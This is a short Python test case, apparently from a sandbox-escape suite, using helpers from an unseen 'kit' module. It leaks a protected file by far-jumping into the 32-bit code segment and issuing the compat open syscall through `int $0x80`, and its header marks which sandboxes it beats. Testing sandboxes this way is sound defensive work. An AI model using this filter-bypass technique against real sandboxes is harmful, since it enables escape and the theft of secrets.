# SPDX-License-Identifier: Apache-2.0
# attack: a far jump into the 32-bit code segment, then int $0x80 there
# class: arch
# wins: leak
# verdict: PV SG
from kit import *

call = function(COMPAT, *[ctypes.c_long] * 5, low=True)
p = page(65536, 3, 0x62)
ctypes.memmove(p, os.fsencode(SECRET) + b'\0', len(SECRET) + 1)
tried()
spill(call(5, p, 0, 0, p + 60000))
